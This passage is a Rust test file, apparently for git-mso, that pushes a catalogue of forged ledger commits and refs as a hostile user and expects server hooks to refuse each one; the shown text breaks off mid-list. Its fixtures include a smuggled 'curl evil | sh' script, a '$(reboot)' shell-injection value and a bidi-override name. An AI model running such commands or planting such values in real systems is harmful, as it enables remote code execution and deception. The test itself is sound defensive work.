//! The server as a hostile but authenticated pusher meets it. A hosting
//! layer names the pusher (`mso.server.pusherEnv`); mallory may push, but
//! is neither admin nor approver. Every case of the corpus is a real push to
//! a bare repository with the hooks installed; each is refused with one
//! line, and every ref of the server is byte-identical afterwards. Then the
//! pushes an honest team makes are accepted.

#![allow(clippy::result_large_err)]

use crate::common;

use std::path::PathBuf;

use crate::common::{NOW_SECS, TestRepo};
use git_mso::core::{Event, EventBody, message};
use serde_json::json;

const PUSHER: &str = "MSO_TEST_PUSHER";

/// A server holding: FTR-0001 awaiting review at PLN on VOY-0001 (its plan
/// committed on the branch), CHR-0001 running BLD on VOY-0002 under alice's
/// lease (runner farm:7), VOY-0003 created with no branch on the server,
/// approvers [bob], admins [alice]; and a parentless commit `orphan`.
struct Server {
    client: TestRepo,
    server: PathBuf,
    orphan: String,
}

impl Server {
    fn new() -> Self {
        let client = TestRepo::initialized();
        let plan = client.crew("plan.sh", "echo plan > plan.md");
        client.set_crews(&[("PLN", &plan)]);
        client.ok(&["config", "approvers", "[\"bob\"]"]);
        client.ok(&["order", "new", "--title", "Add login page"]);
        client.ok(&["order", "new", "--kind", "CHR", "--title", "Chore"]);
        client.ok(&["voyage", "new"]);
        client.git(&["branch", "-D", "voyage/VOY-0003"]);
        // FTR-0001's PLN runs here; CHR-0001 has no BLD crew on this machine.
        client.dispatch_in(&client.path, &["--once"]);
        assert_eq!(client.json(&["order", "show", "FTR-0001", "--json"])["status"], "review");
        client.claim_as("CHR-0001", "BLD", 1, "alice");
        let server = client.root().join("server.git");
        client.git(&["init", "-q", "--bare", "-b", "main", server.to_str().unwrap()]);
        let out = client.mso_in(&server, &["hooks", "install", "--server"]);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        client.git_in(&server, &["config", "mso.server.pusherEnv", PUSHER]);
        client.git(&["remote", "add", "origin", server.to_str().unwrap()]);
        let empty = client.git(&["hash-object", "-t", "tree", "-w", "/dev/null"]).trim().to_string();
        let orphan = client.git(&["commit-tree", &empty, "-m", "orphan"]).trim().to_string();
        let setup = Server { client, server, orphan };
        let (ok, err) = setup.push(&[&format!("{}:refs/heads/orphan", setup.orphan)], "alice");
        assert!(ok, "{err}");
        let sync = setup.client.mso_cmd(&setup.client.path).arg("sync").env(PUSHER, "alice").output().unwrap();
        assert!(sync.status.success(), "the honest sync was refused: {}", String::from_utf8_lossy(&sync.stderr));
        for r in ["refs/mso/ledger", "refs/heads/voyage/VOY-0001", "refs/heads/voyage/VOY-0002", "refs/notes/mso"] {
            setup.client.git_in(&setup.server, &["rev-parse", "--verify", "-q", r]);
        }
        setup
    }

    fn git(&self, args: &[&str]) -> String {
        self.client.git(args)
    }

    fn server_rev(&self, rev: &str) -> String {
        self.client.git_in(&self.server, &["rev-parse", rev]).trim().to_string()
    }

    fn tip(&self) -> String {
        self.server_rev("refs/mso/ledger")
    }

    /// Push `specs` from the client as `pusher`; whether it landed, and git's stderr.
    fn push(&self, specs: &[&str], pusher: &str) -> (bool, String) {
        let mut cmd = std::process::Command::new("git");
        cmd.args(["push", "--porcelain", self.server.to_str().unwrap()]).args(specs).current_dir(&self.client.path);
        common::isolate(&mut cmd, &self.client.home);
        cmd.env(PUSHER, pusher);
        let out = cmd.output().unwrap();
        (out.status.success(), String::from_utf8_lossy(&out.stderr).into_owned())
    }

    /// A commit object in the client (parents, tree and message as given).
    fn commit(&self, tree: &str, parents: &[&str], message: &str) -> String {
        let file = self.client.root().join("forged-message");
        std::fs::write(&file, message).unwrap();
        let mut args = vec!["commit-tree", tree];
        for p in parents {
            args.extend(["-p", p]);
        }
        let file = file.to_str().unwrap().to_string();
        args.extend(["-F", &file]);
        self.git(&args).trim().to_string()
    }

    /// A commit on the server's ledger tip, keeping its tree, with `message`.
    fn forge(&self, message: &str) -> String {
        let tip = self.tip();
        self.commit(&self.server_rev(&format!("{tip}^{{tree}}")), &[&tip], message)
    }

    /// A forged commit of `bodies` by `actor` at `at`, ids derived as a writer would.
    fn forge_at(&self, actor: &str, at: i64, bodies: Vec<serde_json::Value>) -> String {
        let tip = self.tip();
        let events: Vec<Event> = bodies
            .into_iter()
            .enumerate()
            .map(|(i, b)| Event::derived(Some(&tip), i, at, actor.into(), serde_json::from_value(b).unwrap()))
            .collect();
        self.forge(&message::format(&events))
    }

    fn forge_by(&self, actor: &str, bodies: Vec<serde_json::Value>) -> String {
        self.forge_at(actor, NOW_SECS, bodies)
    }

    /// A tree like `tree` with `path` set to `entry` ("<mode> <type> <id>"), built with ls-tree and mktree.
    fn with_entry(&self, tree: &str, path: &str, entry: &str) -> String {
        let (head, rest) = path.split_once('/').map_or((path, None), |(h, r)| (h, Some(r)));
        let listing = self.git(&["ls-tree", tree]);
        let mut lines: Vec<String> =
            listing.lines().filter(|l| l.split('\t').nth(1) != Some(head)).map(String::from).collect();
        let line = match rest {
            None => format!("{entry}\t{head}"),
            Some(rest) => {
                let sub = self.git(&["rev-parse", &format!("{tree}:{head}")]).trim().to_string();
                format!("040000 tree {}\t{head}", self.with_entry(&sub, rest, entry))
            }
        };
        lines.push(line);
        self.mktree(&lines.join("\n"))
    }

    fn mktree(&self, listing: &str) -> String {
        let mut cmd = std::process::Command::new("git");
        cmd.args(["mktree", "--missing"]).current_dir(&self.client.path).stdin(std::process::Stdio::piped());
        cmd.stdout(std::process::Stdio::piped());
        common::isolate(&mut cmd, &self.client.home);
        let mut child = cmd.spawn().unwrap();
        std::io::Write::write_all(child.stdin.as_mut().unwrap(), format!("{listing}\n").as_bytes()).unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success());
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    }

    /// Write raw bytes as an object of `kind`, unchecked (as a hostile client can).
    fn raw_object(&self, kind: &str, bytes: &[u8]) -> String {
        let mut cmd = std::process::Command::new("git");
        cmd.args(["hash-object", "-t", kind, "--literally", "-w", "--stdin"])
            .current_dir(&self.client.path)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped());
        common::isolate(&mut cmd, &self.client.home);
        let mut child = cmd.spawn().unwrap();
        std::io::Write::write_all(child.stdin.as_mut().unwrap(), bytes).unwrap();
        let out = child.wait_with_output().unwrap();
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    }

    fn blob(&self, bytes: &[u8]) -> String {
        self.raw_object("blob", bytes)
    }

    /// mallory files FTR-0002 honestly; the commit is made by git-mso, then
    /// the client's ledger goes back to the server's tip.
    fn honest_by_mallory(&self) -> String {
        let tip = self.tip();
        self.git(&["config", "mso.user", "mallory"]);
        self.client.ok(&["order", "new", "--title", "a fair request", "--voyage", "VOY-0001"]);
        self.git(&["config", "--unset", "mso.user"]);
        let honest = self.client.tip();
        self.git(&["update-ref", "refs/mso/ledger", &tip]);
        honest
    }

    /// A commit made by git-mso's own writer as `actor` (so its tree is
    /// canonical) with the events `build` pushes; the client's ledger then
    /// goes back to the server's tip.
    fn written_by(
        &self,
        actor: &str,
        build: impl FnMut(&mut git_mso::store::Tx<'_>) -> git_mso::error::Result<()>,
    ) -> String {
        let tip = self.tip();
        self.git(&["config", "mso.user", actor]);
        self.client.store().transact(build).unwrap();
        self.git(&["config", "--unset", "mso.user"]);
        let made = self.client.tip();
        self.git(&["update-ref", "refs/mso/ledger", &tip]);
        made
    }

    /// A notes commit on the server's notes with `listing` as its tree (ls-tree format).
    fn notes_commit(&self, listing: &str, parent: bool) -> String {
        let tree = self.mktree(listing);
        let parents: Vec<String> = if parent { vec![self.server_rev("refs/notes/mso")] } else { vec![] };
        let parents: Vec<&str> = parents.iter().map(String::as_str).collect();
        self.commit(&tree, &parents, "notes\n")
    }
}

fn body(value: serde_json::Value) -> serde_json::Value {
    value
}

/// mallory files FTR-0002 on VOY-0003 and holds `head` for it, written by git-mso.
fn hold_by_mallory(s: &Server, head: &str) -> String {
    s.written_by("mallory", |tx| {
        let order: git_mso::core::OrderId = "FTR-0002".parse().unwrap();
        tx.push(EventBody::OrderCreated {
            order: order.clone(),
            title: "t".into(),
            brief: String::new(),
            acceptance: vec![],
            roles: ["PLN", "BLD", "TST"].map(|r| r.parse().unwrap()).to_vec(),
            gates: vec!["PLN".parse().unwrap()],
            voyage: "VOY-0003".parse().unwrap(),
            budget_micros: None,
        })?;
        tx.push(EventBody::Held { order, role: "PLN".parse().unwrap(), head: head.into(), reason: "look".into() })
    })
}

fn tree_of_commit(s: &Server, commit: &str) -> String {
    s.git(&["rev-parse", &format!("{commit}^{{tree}}")]).trim().to_string()
}

/// One push of the corpus: what it is, the refspecs, who pushes, and the refusal expected.
struct Case {
    name: &'static str,
    specs: Vec<String>,
    pusher: &'static str,
    expected: String,
}

fn case(name: &'static str, commit: String, expected: &str) -> Case {
    Case { name, specs: vec![format!("+{commit}:refs/mso/ledger")], pusher: "mallory", expected: expected.into() }
}

fn as_pusher(mut c: Case, pusher: &'static str) -> Case {
    c.pusher = pusher;
    c
}

fn refs_case(name: &'static str, specs: &[String], expected: &str) -> Case {
    Case { name, specs: specs.to_vec(), pusher: "mallory", expected: expected.into() }
}

#[test]
fn a_hostile_pusher_is_refused_with_one_line_and_nothing_moves() {
    let s = Server::new();
    let tip = s.tip();
    let parent = s.server_rev(&format!("{tip}~1"));
    let tree = s.server_rev(&format!("{tip}^{{tree}}"));
    let plan_head = s.server_rev("refs/heads/voyage/VOY-0001");
    let chr_head = s.server_rev("refs/heads/voyage/VOY-0002");
    let base = s.git(&["rev-parse", "main"]).trim().to_string();
    let honest = s.honest_by_mallory();
    let honest_msg = s.git(&["log", "-1", "--format=%B", &honest]).trim_end().to_string() + "\n";
    let honest_tree = s.git(&["rev-parse", &format!("{honest}^{{tree}}")]).trim().to_string();
    let order_blob = s.git(&["rev-parse", &format!("{honest}:orders/FTR-00/FTR-0002.json")]).trim().to_string();
    let order_path = "orders/FTR-00/FTR-0002.json";
    let lease =
        |actor: &str, expires: i64| json!({"runner": "m:1", "host": "m", "pid": 1, "expires": expires, "actor": actor});
    // FTR-0001 awaits review on VOY-0001 and so holds it: new work goes on VOY-0003.
    let new_ftr2 = || {
        body(
            json!({"type": "ORDER_CREATED", "order": "FTR-0002", "title": "t", "roles": ["PLN", "BLD", "TST"], "gates": ["PLN"], "voyage": "VOY-0003"}),
        )
    };
    let claim_ftr2 = |actor: &str| {
        body(
            json!({"type": "DISPATCHED", "order": "FTR-0002", "role": "PLN", "attempt": 1, "lease": lease(actor, NOW_SECS + 600)}),
        )
    };
    let succeed = |head: &str| {
        body(
            json!({"type": "SUCCEEDED", "order": "FTR-0002", "role": "PLN", "attempt": 1, "runner": "m:1", "head": head}),
        )
    };
    let chr_result = |runner: &str, attempt: u32| {
        body(
            json!({"type": "SUCCEEDED", "order": "CHR-0001", "role": "BLD", "attempt": attempt, "runner": runner, "head": chr_head}),
        )
    };
    let approve = |by: &str| {
        vec![
            body(json!({"type": "APPROVED", "order": "FTR-0001", "role": "PLN", "by": by, "commit": plan_head})),
            body(json!({"type": "ADVANCED", "order": "FTR-0001", "from": "PLN", "to": "BLD"})),
        ]
    };
    let set = |key: &str, value: serde_json::Value| body(json!({"type": "CONFIG_SET", "key": key, "value": value}));
    // What an edit names as the text it replaces: FTR-0001's, CHR-0001's, and the new FTR-0002's.
    let text_of = |id: &str| {
        let order = s.client.json(&["order", "show", id, "--json"]);
        let criteria: Vec<String> = serde_json::from_value(order["acceptance"].clone()).unwrap();
        git_mso::core::state::text_digest(order["title"].as_str().unwrap(), order["brief"].as_str().unwrap(), &criteria)
    };
    let (ftr1_text, chr1_text) = (text_of("FTR-0001"), text_of("CHR-0001"));
    let ftr2_text = git_mso::core::state::text_digest("t", "", &[]);
    let ff_on_chr =
        s.commit(s.git(&["rev-parse", &format!("{chr_head}^{{tree}}")]).trim(), &[&chr_head], "a human commit\n");
    let big_note = s.blob(&vec![b'x'; 65 * 1024]);
    let small_note = s.blob(b"Mso-Order: FTR-0001\n");
    let notes_tree = s.git(&["ls-tree", &s.server_rev("refs/notes/mso")]).trim().to_string();
    // A root tree listing config.json twice (same entry): only a raw tree object can say that.
    let duplicate_root = {
        let mut raw = Vec::new();
        let listing = s.git(&["ls-tree", &honest_tree]);
        let mut entries: Vec<(String, String, String)> = listing
            .lines()
            .map(|l| {
                let (meta, name) = l.split_once('\t').unwrap();
                let mut parts = meta.split(' ');
                let mode = parts.next().unwrap().trim_start_matches('0').to_string();
                (name.to_string(), mode, parts.nth(1).unwrap().to_string())
            })
            .collect();
        let config = entries.iter().find(|e| e.0 == "config.json").unwrap().clone();
        entries.insert(0, config);
        for (name, mode, id) in entries {
            raw.extend(format!("{mode} {name}\0").as_bytes());
            raw.extend((0..20).map(|i| u8::from_str_radix(&id[2 * i..2 * i + 2], 16).unwrap()));
        }
        s.raw_object("tree", &raw)
    };
    let swapped_tree = {
        let queued_at_bld = s
            .git(&["show", &format!("{tip}:orders/FTR-00/FTR-0001.json")])
            .replace("\"status\": \"review\"", "\"status\": \"queued\"")
            .replace("\"role\": \"PLN\"", "\"role\": \"BLD\"");
        s.with_entry(
            &honest_tree,
            "orders/FTR-00/FTR-0001.json",
            &format!("100644 blob {}", s.blob(queued_at_bld.as_bytes())),
        )
    };
    let huge = format!("{}\n", "x".repeat(9 * 1024 * 1024));
    // Holds made by git-mso's own writer: one naming a commit that is not its
    // branch's tip on the server, one naming a commit pushed along with it.
    let false_hold = hold_by_mallory(&s, &s.orphan);
    let on_voy3 = s.commit(&tree_of_commit(&s, &base), &[&base], "on VOY-0003\n");
    let hold_with_move = hold_by_mallory(&s, &on_voy3);
    // 1,100 notes on real commits (pushed along), sharing one 64 KiB blob:
    // small to push, 70 MB to read.
    let chain = s.client.chain(1100);
    let heavy_notes: String = {
        let blob = s.blob(&vec![b'n'; 64 * 1024]);
        chain.iter().map(|c| format!("100644 blob {blob}\t{c}")).collect::<Vec<_>>().join("\n")
    };
    // mallory adds a record to the evidence of alice's PLN run: on the right
    // commit, with the brief digest the ledger names, but not the record whose
    // SHA-256 the run's report names.
    let forged_evidence = {
        let order = s.client.json(&["order", "show", "FTR-0001", "--json"]);
        let digest =
            order["history"].as_array().unwrap().iter().find(|e| e["type"] == "SUCCEEDED").unwrap()["run"]["brief"]
                .as_str()
                .unwrap()
                .to_string();
        let evidence = s.server_rev("refs/notes/mso-evidence");
        let honest =
            s.git(&["--git-dir", s.server.to_str().unwrap(), "notes", "--ref=mso-evidence", "show", &plan_head]);
        let forged = format!(
            "{honest}\nMso-Evidence: FTR-0001 run 1 PLN attempt 1\nMso-Outcome: succeeded\nMso-Brief-Sha256: {digest}\n--- crew log\n| all tests pass\n"
        );
        let listing = s
            .git(&["--git-dir", s.server.to_str().unwrap(), "ls-tree", &evidence])
            .replace(&format!("\t{plan_head}"), &format!("\t{plan_head}.old"));
        let listing: Vec<String> = listing.lines().filter(|l| !l.ends_with(".old")).map(str::to_string).collect();
        let listing = format!("{}\n100644 blob {}\t{plan_head}", listing.join("\n"), s.blob(forged.as_bytes()));
        let commit = s.commit(&s.mktree(listing.trim_start()), &[&evidence], "notes\n");
        let wrong_digest = forged.replace(&digest, &"0".repeat(64));
        let listing2 = listing.replace(&s.blob(forged.as_bytes()), &s.blob(wrong_digest.as_bytes()));
        (commit, s.commit(&s.mktree(listing2.trim_start()), &[&evidence], "notes\n"))
    };
    let fake_note: String = {
        let blob = s.blob(b"Mso-Order: FTR-0001\n");
        format!("{notes_tree}\n100644 blob {blob}\t{}", "0".repeat(40))
    };
    // New names only: git itself drops updates it sees as non-fast-forwards before the hook runs.
    let many_branches: Vec<String> = (4..=1004).map(|n| format!("{base}:refs/heads/voyage/VOY-{n:04}")).collect();

    let cases: Vec<Case> = vec![
        // Who may do what.
        case("a non-admin adds herself to the approvers", s.forge_by("mallory", vec![set("approvers", json!(["bob", "mallory"]))]), "illegal CONFIG_SET event: mallory is not an admin (admins: alice)"),
        case("a non-admin makes herself admin", s.forge_by("mallory", vec![set("admins", json!(["alice", "mallory"]))]), "mallory is not an admin"),
        case("a non-admin turns signatures off", s.forge_by("mallory", vec![set("require_signatures", json!(false))]), "mallory is not an admin"),
        case("a config change under the admin's name", s.forge_by("alice", vec![set("approvers", json!(["mallory"]))]), "CONFIG_SET by alice pushed by mallory"),
        case("an approval recorded for someone else", s.forge_by("mallory", approve("bob")), "a review by bob recorded by mallory"),
        case("the approver's own approval, pushed by someone else", s.forge_by("bob", approve("bob")), "APPROVED by bob pushed by mallory"),
        case("a non-approver approves", s.forge_by("mallory", approve("mallory")), "mallory is not an approver (approvers: bob)"),
        case("a non-approver rejects", s.forge_by("mallory", vec![body(json!({"type": "REJECTED", "order": "FTR-0001", "role": "PLN", "by": "mallory", "commit": plan_head, "reason": "no", "to": "PLN"}))]), "mallory is not an approver (approvers: bob)"),
        case("an order that skips its kind's review gate", s.forge_by("mallory", vec![body(json!({"type": "ORDER_CREATED", "order": "FTR-0002", "title": "t", "roles": ["PLN", "BLD", "TST"], "gates": [], "voyage": "VOY-0001"}))]), "only admins file FTR orders with other roles or fewer gates"),
        case("an order that skips planning", s.forge_by("mallory", vec![body(json!({"type": "ORDER_CREATED", "order": "FTR-0002", "title": "t", "roles": ["BLD"], "gates": [], "voyage": "VOY-0001"}))]), "only admins file FTR orders"),
        case("a stranger cancels someone's running order", s.forge_by("mallory", vec![body(json!({"type": "CANCELLED", "order": "CHR-0001", "reason": "mine now"}))]), "mallory may not cancel CHR-0001: with an approver list, only its creator (alice), admins and approvers may"),
        // Runner events come from the lease holder.
        case("a result by someone who does not hold the lease", s.forge_by("mallory", vec![chr_result("farm:7", 1), body(json!({"type": "ADVANCED", "order": "CHR-0001", "from": "BLD", "to": "TST"}))]), "the lease is held by farm:7 (alice), not farm:7 (mallory)"),
        as_pusher(case("the holder's name on another runner's result", s.forge_by("alice", vec![chr_result("other:1", 1), body(json!({"type": "ADVANCED", "order": "CHR-0001", "from": "BLD", "to": "TST"}))]), "not other:1 (alice)"), "alice"),
        as_pusher(case("a result for an attempt that is not running", s.forge_by("alice", vec![chr_result("farm:7", 2)]), "the event names attempt 2, the order is at attempt 1"), "alice"),
        // A lease holder's run report is checked whole: verdicts, sending back, costs.
        as_pusher(case("a failure sent back where no verdict objects", s.forge_by("alice", vec![body(json!({"type": "FAILED", "order": "CHR-0001", "role": "BLD", "attempt": 1, "runner": "farm:7", "exit": 1, "reason": "x", "to": "BLD"}))]), "goes back to BLD only when its verdicts or findings object"), "alice"),
        as_pusher(case("a verdict on a criterion the order does not have", s.forge_by("alice", vec![body(json!({"type": "SUCCEEDED", "order": "CHR-0001", "role": "BLD", "attempt": 1, "runner": "farm:7", "head": chr_head, "run": {"verdicts": [{"criterion": 7, "verdict": "pass"}]}})), body(json!({"type": "ADVANCED", "order": "CHR-0001", "from": "BLD", "to": "TST"}))]), "a verdict names criterion 7, the order has 0"), "alice"),
        as_pusher(case("a run that claims to have cost a fortune", s.forge_by("alice", vec![body(json!({"type": "FAILED", "order": "CHR-0001", "role": "BLD", "attempt": 1, "runner": "farm:7", "exit": 1, "reason": "x", "run": {"usage": {"cost_micros": 9_000_000_000_000u64}}}))]), "cost or turns are out of range"), "alice"),
        as_pusher(case("a finding with control characters for a title", s.forge_by("alice", vec![body(json!({"type": "FAILED", "order": "CHR-0001", "role": "BLD", "attempt": 1, "runner": "farm:7", "exit": 1, "reason": "x", "run": {"findings": [{"severity": "high", "title": "\u{1b}[2Jok"}]}}))]), "finding title"), "alice"),
        case("a stranger rewrites someone's order", s.forge_by("mallory", vec![body(json!({"type": "ORDER_EDITED", "order": "FTR-0001", "replaces": ftr1_text, "title": "mallory's now"}))]), "mallory may not edit FTR-0001: with an approver list, only its creator (alice), admins and approvers may"),
        case("an edit in the creator's name", s.forge_by("alice", vec![body(json!({"type": "ORDER_EDITED", "order": "FTR-0001", "replaces": ftr1_text, "brief": "do something else"}))]), "ORDER_EDITED by alice pushed by mallory"),
        as_pusher(case("criteria changed under a running crew", s.forge_by("alice", vec![body(json!({"type": "ORDER_EDITED", "order": "CHR-0001", "replaces": chr1_text, "acceptance": ["nothing at all"]}))]), "CHR-0001 is running BLD (attempt 1): a crew works from it"), "alice"),
        case("an edit that balloons the brief", s.forge_by("mallory", vec![new_ftr2(), body(json!({"type": "ORDER_EDITED", "order": "FTR-0002", "replaces": ftr2_text, "brief": "x".repeat(65 * 1024)}))]), "brief"),
        case("an edit that changes nothing", s.forge_by("mallory", vec![new_ftr2(), body(json!({"type": "ORDER_EDITED", "order": "FTR-0002", "replaces": ftr2_text, "title": "t"}))]), "FTR-0002: the edit changes nothing"),
        case("an approval withdrawn in someone else's name", s.forge_by("mallory", vec![body(json!({"type": "APPROVAL_WITHDRAWN", "order": "FTR-0001", "role": "PLN", "by": "bob", "commit": plan_head}))]), "a review by bob recorded by mallory"),
        as_pusher(case("an approval withdrawn that was never given", s.forge_by("bob", vec![body(json!({"type": "APPROVAL_WITHDRAWN", "order": "FTR-0001", "role": "PLN", "by": "bob", "commit": plan_head}))]), "bob's approval of PLN is not the last thing that happened to it"), "bob"),
        as_pusher(case("an order with work on its branch moved away", s.forge_by("alice", vec![body(json!({"type": "ORDER_MOVED", "order": "FTR-0001", "voyage": "VOY-0003"}))]), "FTR-0001 is review at PLN, not queued or failed"), "alice"),
        case("an edit made on text that changed since", s.forge_by("mallory", vec![new_ftr2(), body(json!({"type": "ORDER_EDITED", "order": "FTR-0002", "replaces": ftr1_text, "title": "overwritten"}))]), "FTR-0002: its text changed since this edit was made"),
        case("an order moved to a voyage that does not exist", s.forge_by("mallory", vec![new_ftr2(), body(json!({"type": "ORDER_MOVED", "order": "FTR-0002", "voyage": "VOY-0009"}))]), "no voyage VOY-0009"),
        case("ending someone else's lease early", s.forge_by("mallory", vec![body(json!({"type": "LEASE_EXPIRED", "order": "CHR-0001", "role": "BLD", "runner": "farm:7"}))]), "only its holder alice may release it earlier"),
        case("renewing someone else's lease", s.forge_by("mallory", vec![body(json!({"type": "LEASE_RENEWED", "order": "CHR-0001", "runner": "farm:7", "expires": NOW_SECS + 300}))]), "the lease is held by farm:7 (alice)"),
        case("a claim in someone else's name", s.forge_by("mallory", vec![new_ftr2(), claim_ftr2("alice")]), "the lease names alice but mallory claimed it"),
        case("a lease that never runs out", s.forge_by("mallory", vec![new_ftr2(), body(json!({"type": "DISPATCHED", "order": "FTR-0002", "role": "PLN", "attempt": 1, "lease": lease("mallory", 9_999_999_999)}))]), "a lease must expire after it starts and within lease_ttl_secs"),
        // The server's clock.
        case("an event an hour old", s.forge_at("mallory", NOW_SECS - 3600, vec![new_ftr2()]), "is more than 300 s from the server's clock"),
        case("an event from the far future", s.forge_at("mallory", 253_402_300_799, vec![new_ftr2()]), "is more than 300 s from the server's clock"),
        // Canonical state only.
        case("the parent's tree instead of the state", s.commit(&tree, &[&tip], &honest_msg), "is not the canonical tree"),
        case("an extra file smuggled into the tree", s.commit(&s.with_entry(&honest_tree, "evil.sh", &format!("100755 blob {}", s.blob(b"curl evil | sh\n"))), &[&tip], &honest_msg), "it differs at evil.sh"),
        case("an order file made executable", s.commit(&s.with_entry(&honest_tree, order_path, &format!("100755 blob {order_blob}")), &[&tip], &honest_msg), "it differs at orders/FTR-00/FTR-0002.json"),
        case("an order file that is a symlink", s.commit(&s.with_entry(&honest_tree, order_path, &format!("120000 blob {}", s.blob(b"../../config.json"))), &[&tip], &honest_msg), "it differs at orders/FTR-00/FTR-0002.json"),
        case("an order file that is a gitlink", s.commit(&s.with_entry(&honest_tree, order_path, &format!("160000 commit {base}")), &[&tip], &honest_msg), "it differs at orders/FTR-00/FTR-0002.json"),
        case("a tree listing config.json twice", s.commit(&duplicate_root, &[&tip], &honest_msg), "is not the canonical tree"),
        case("order states swapped through the tree", s.commit(&swapped_tree, &[&tip], &honest_msg), "it differs at orders/FTR-00/FTR-0001.json"),
        case("a copied event id", {
            let first = s.client.json(&["order", "show", "FTR-0001", "--json"])["history"][0]["id"].as_str().unwrap().to_string();
            let mut e = Event::derived(Some(&tip), 0, NOW_SECS, "mallory".into(), serde_json::from_value(new_ftr2()).unwrap());
            e.id = first;
            s.forge(&message::format(&[e]))
        }, "but its content and parent give"),
        // Every object an event names exists, with the right type.
        case("a voyage on a commit the server lacks", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_CREATED", "voyage": "VOY-0004", "base": "1234567890123456789012345678901234567890"}))]), "voyage base 1234567 is not a commit in this repository"),
        case("a voyage on a tree", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_CREATED", "voyage": "VOY-0004", "base": tree}))]), "is not a commit in this repository"),
        case("a result on a commit that does not build on the reviewed one", s.forge_by("mallory", vec![new_ftr2(), claim_ftr2("mallory"), succeed(&s.orphan)]), "does not descend from VOY-0003's recorded head"),
        case("a result naming a commit that does not exist", s.forge_by("mallory", vec![new_ftr2(), claim_ftr2("mallory"), succeed("abcdefabcdefabcdefabcdefabcdefabcdefabcd")]), "head abcdefa is not a commit in this repository"),
        // What gets built is what was reviewed: voyage branches.
        refs_case("deleting a voyage branch with open orders", &[":refs/heads/voyage/VOY-0001".into()], "deleting it is not allowed while VOY-0001 has open orders (FTR-0001)"),
        refs_case("rewinding a voyage branch with open orders", &[format!("+{base}:refs/heads/voyage/VOY-0001")], "is not a fast-forward, and VOY-0001 has open orders (FTR-0001)"),
        refs_case("a voyage branch before its VOYAGE_CREATED", &[format!("{base}:refs/heads/voyage/VOY-0009")], "the ledger has no VOY-0009"),
        refs_case("a branch in the voyage namespace that is no voyage", &[format!("{base}:refs/heads/voyage/feature-x")], "named voyage/VOY-NNNN"),
        refs_case("moving the branch of a running order without its lease", &[format!("{ff_on_chr}:refs/heads/voyage/VOY-0002")], "CHR-0001 is running on VOY-0002; only its lease holder (alice) may move the branch"),
        refs_case("creating a voyage branch away from its recorded head", &[format!("{}:refs/heads/voyage/VOY-0003", s.orphan)], "does not build on VOY-0003's recorded head"),
        // Bounded everything.
        case("1,001 events in one commit", s.forge_by("mallory", (0..1001).map(|_| body(json!({"type": "RETRIED", "order": "CHR-0001"}))).collect()), "1001 events in one transaction, the limit is 1000"),
        as_pusher(case("an attempt limit out of range", s.forge_by("alice", vec![set("max_attempts", json!(1_000_000))]), "max_attempts must be between 1 and 20"), "alice"),
        as_pusher(case("a lease TTL that overflows", s.forge_by("alice", vec![set("lease_ttl_secs", json!(u64::MAX))]), "lease_ttl_secs must be between 10 and 86400"), "alice"),
        as_pusher(case("a model tier with shell syntax", s.forge_by("alice", vec![set("roles.PLN.model", json!("$(reboot)"))]), "model tier '$(reboot)' is not valid"), "alice"),
        as_pusher(case("an actor name with a bidi override", s.forge_by("mal\u{202e}lory", vec![new_ftr2()]), "is not a valid name"), "mal\u{202e}lory"),
        case("an oversized message", s.forge(&huge), "exceeds"),
        // Names that would stop clones' fetches, or stand in for voyage branches.
        refs_case("a branch named like the ledger's tracking ref", &[format!("{base}:refs/heads/mso/ledger")], "clones fetch this branch where they keep the remote's ledger"),
        refs_case("a branch named like the notes' tracking ref", &[format!("{base}:refs/heads/notes/mso")], "clones fetch this branch where they keep the remote's ledger"),
        refs_case("a branch where the voyage directory goes", &[format!("{base}:refs/heads/voyage")], "would stand in the way of, or shadow, the voyage/… branches"),
        refs_case("a ref that shadows a voyage branch", &[format!("{}:refs/voyage/VOY-0001", s.orphan)], "would stand in the way of, or shadow"),
        refs_case("a hold pushed with a move of its branch", &[format!("{hold_with_move}:refs/mso/ledger"), format!("{on_voy3}:refs/heads/voyage/VOY-0003")], "comes with a push that moves voyage/VOY-0003"),
        refs_case("notes over 64 MiB in all", &[format!("{}:refs/heads/chain", chain[chain.len() - 1]), format!("{}:refs/notes/mso", s.notes_commit(&heavy_notes, true))], "the notes hold more than 67108864 bytes"),
        refs_case("evidence of someone else's run", &[format!("{}:refs/notes/mso-evidence", forged_evidence.0)], "a record of FTR-0001 that no run report in the ledger names"),
        as_pusher(refs_case("evidence naming another brief", &[format!("{}:refs/notes/mso-evidence", forged_evidence.1)], "a record of FTR-0001 that no run report in the ledger names"), "alice"),
        refs_case("a note on no commit", &[format!("{}:refs/notes/mso", s.notes_commit(&fake_note, true))], "is on no commit of this repository"),
        refs_case("evidence on no commit", &[format!("{}:refs/notes/mso-evidence", s.commit(&s.mktree(&fake_note), &[&s.server_rev("refs/notes/mso-evidence")], "notes\n"))], "is on no commit of this repository"),
        // Refs that change what objects read as, or pose as ours.
        refs_case("a replace ref swapping main's first commit", &[format!("{}:refs/replace/{base}", s.orphan)], "replace refs would change what commits and trees read as"),
        refs_case("the ledger under another case", &[format!("{tip}:refs/MSO/ledger")], "only refs/mso/ledger and refs/mso/rejected/ORDER/N live under refs/mso/"),
        refs_case("a voyage branch under another case", &[format!("{base}:refs/heads/Voyage/VOY-0001")], "a case variant of git-mso's voyage branches"),
        refs_case("a tag named like a voyage branch", &[format!("{}:refs/tags/voyage/VOY-0001", s.orphan)], "a tag named like a voyage branch"),
        refs_case("another voyage id for the same voyage", &[format!("{plan_head}:refs/heads/voyage/VOY-000000001")], "named voyage/VOY-NNNN"),
        refs_case("another ref starting refs/notes/mso", &[format!("{}:refs/notes/msox", s.server_rev("refs/notes/mso"))], "only refs/notes/mso and refs/notes/mso-evidence are git-mso's"),
        refs_case("1,001 voyage branches in one push", &many_branches, "1001 voyage branch and rejected-work updates in one push, the limit is 1000"),
        case("a hold naming a commit that is not its branch's tip", false_hold, "HELD for FTR-0002 names"),
        as_pusher(case("a lease declared run out in the future", s.forge_at("alice", NOW_SECS + 200, vec![body(json!({"type": "LEASE_EXPIRED", "order": "CHR-0001", "role": "BLD", "runner": "farm:7"}))]), "is later than the server's clock"), "alice"),
        // Everything else that is pushed.
